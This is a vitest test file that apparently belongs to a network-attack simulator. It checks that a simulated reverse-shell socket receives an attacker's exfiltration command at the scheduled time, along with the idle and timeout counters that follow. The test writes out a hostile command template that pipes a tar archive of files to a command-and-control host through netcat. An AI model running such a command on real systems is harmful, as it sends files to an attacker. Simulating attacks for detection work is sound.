import flagship from '../../../../scenarios/ssh-reverse-shell-beacon-exfil.yaml?raw';
import { describe, expect, it } from 'vitest';
import { compiledOnce } from './flagship.fixture';

describe('reverse shell: what the attacker typed shows on its socket', () => {
  const c = compiledOnce(flagship);
  const exfil = c.byId('exfil', 'exfil');
  const c2 = `${c.vars.get('c2_addr')}`;
  const command = `tar czf - ${exfil.source} | nc ${c2} ${exfil.to.port}`;
  const at = (t: number) => {
    const w = c.at(t);
    const s = w.sockets.find((x) => x.id === 'revshell')!;
    const f = w.flows.find((x) => x.orig.sport === s.local.port && x.orig.dst === c2)!;
    return { s, f };
  };

  it('receives the exfil command line when the exfil starts, and counts idle time from it', () => {
    const before = at(exfil.at - 1_000);
    const after = at(exfil.at + 30_000);
    expect(after.s.info!.bytesReceived! - before.s.info!.bytesReceived!).toBe(command.length + 1);
    expect(after.s.info!.lastrcv).toBe(30_000);
    expect(before.s.info!.lastrcv).toBeGreaterThan(3_000_000);
    expect(after.f.timeout).toBe(432_000 - 30);
    expect(at(exfil.at + 90_000).f.timeout).toBe(432_000 - 90);
  });
});
